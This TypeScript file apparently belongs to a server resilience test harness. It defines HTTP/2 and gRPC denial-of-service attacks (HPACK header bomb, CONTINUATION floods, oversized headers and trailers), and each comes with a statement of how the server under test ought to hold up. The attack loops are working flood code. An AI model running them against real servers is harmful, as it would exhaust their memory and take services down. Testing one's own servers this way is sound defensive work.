import type { Attack, AttackContext } from "../../attack.ts";
import { untilOver } from "../../tools/at-once.ts";
import { pathOf } from "../../tools/messages.ts";
import {
  flags,
  frame,
  frames,
  grpcHead,
  headerBlock,
  hpackText,
  RawHttp2,
} from "../../tools/raw-http2.ts";

const right = "headers are bounded as they are unpacked, and so is what waits for the rest of them";
const frameBytesMax = 16_384;

/** Header blocks on new streams without pause, on four connections that are made anew. */
async function sendBlocks(
  { addresses, outcomes, signal }: AttackContext,
  blocks: (connection: RawHttp2) => readonly Buffer[],
): Promise<void> {
  await untilOver(4, signal, async () => {
    using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal });
    while (connection.isOpen && !signal.aborted) {
      for (const bytes of blocks(connection)) await connection.send(bytes);
      outcomes.see("sent");
    }
  });
}

/** A field that the table keeps (RFC 7541 §6.2.1); it is then the first of those that it has. */
const keptField = Buffer.concat([
  Buffer.of(0x40),
  hpackText("x-large"),
  hpackText("v".repeat(3_900)),
]);
const firstKept = 0x80 | 62;

export const headerBomb: Attack = {
  name: "header-bomb",
  sends: "headers of 4 kB that the table keeps, named 12,000 times in one block of 16 kB",
  right,
  form: "long",
  run: (context) =>
    sendBlocks(context, (connection) => {
      const block = Buffer.concat([
        grpcHead(pathOf("renew")),
        keptField,
        Buffer.alloc(12_000, firstKept),
      ]);
      return [
        frame(frames.headers, flags.endHeaders | flags.endStream, connection.nextStream(), block),
      ];
    }),
};

export const smallHeaderBombs: Attack = {
  name: "small-header-bombs",
  sends: "the same in streams of 15 bytes, that name the headers six times, on 4 connections",
  right: "a connection whose streams are refused by the hundred is closed, and pays for it",
  form: "long",
  async run({ addresses, outcomes, signal }) {
    await untilOver(4, signal, async () => {
      using connection = await RawHttp2.open(addresses.grpc, { outcomes, signal });
      const whole = flags.endHeaders | flags.endStream;
      const head = Buffer.concat([grpcHead(pathOf("renew")), keptField]);
      await connection.send(frame(frames.headers, whole, connection.nextStream(), head));
      const block = Buffer.alloc(6, firstKept);
      while (connection.isOpen && !signal.aborted) {
        const streams = Array.from({ length: 5_000 }, () =>
          frame(frames.headers, whole, connection.nextStream(), block),
        );
        await connection.send(Buffer.concat(streams));
        outcomes.see("sent", streams.length);
      }
    });
  },
};

export const continuationFlood: Attack = {
  name: "continuation-flood",
  sends: "a block of headers that never ends, in CONTINUATION frames of 16 kB, on 4 connections",
  right,
  form: "long",
  run: (context) =>
    sendBlocks(context, (connection) => {
      const stream = connection.nextStream();
      const field = headerBlock([["x-more", "v".repeat(frameBytesMax - 100)]]);
      const more = frame(frames.continuation, 0, stream, field);
      return [
        frame(frames.headers, 0, stream, grpcHead(pathOf("renew"))),
        ...Array.from({ length: 200 }, () => more),
      ];
    }),
};

export const emptyContinuations: Attack = {
  name: "empty-continuations",
  sends:
    "a block of headers that never ends, in CONTINUATION frames without a byte, on 4 connections",
  right,
  form: "full",
  run: (context) =>
    sendBlocks(context, (connection) => {
      const stream = connection.nextStream();
      const more = Buffer.concat(
        Array.from({ length: 2_000 }, () => frame(frames.continuation, 0, stream)),
      );
      return [frame(frames.headers, 0, stream, grpcHead(pathOf("renew"))), more, more, more, more];
    }),
};

export const manyHeaders: Attack = {
  name: "many-headers",
  sends: "calls with 2000 headers of a few bytes each, on 4 connections",
  right,
  form: "full",
  run: (context) =>
    sendBlocks(context, (connection) => {
      const others = Array.from({ length: 1_200 }, (_, index) => [`x-${index}`, "v"] as const);
      const block = grpcHead(pathOf("renew"), ...others);
      const end = flags.endHeaders | flags.endStream;
      return [frame(frames.headers, end, connection.nextStream(), block)];
    }),
};

export const wideMetadata: Attack = {
  name: "wide-metadata",
  sends: "calls that never end, with 14 kB of headers each, on 4 connections",
  right,
  form: "full",
  run: (context) =>
    sendBlocks(context, (connection) => {
      const stream = connection.nextStream();
      const block = grpcHead(pathOf("keepAlive"), ["x-wide", "v".repeat(14_000)]);
      return [frame(frames.headers, flags.endHeaders, stream, block)];
    }),
};

export const wideTrailers: Attack = {
  name: "wide-trailers",
  sends: "calls that end with trailers of 14 kB, on 4 connections",
  right,
  form: "full",
  run: (context) =>
    sendBlocks(context, (connection) => {
      const stream = connection.nextStream();
      const trailers = headerBlock([["x-wide", "v".repeat(14_000)]]);
      return [
        frame(frames.headers, flags.endHeaders, stream, grpcHead(pathOf("keepAlive"))),
        frame(frames.headers, flags.endHeaders | flags.endStream, stream, trailers),
      ];
    }),
};
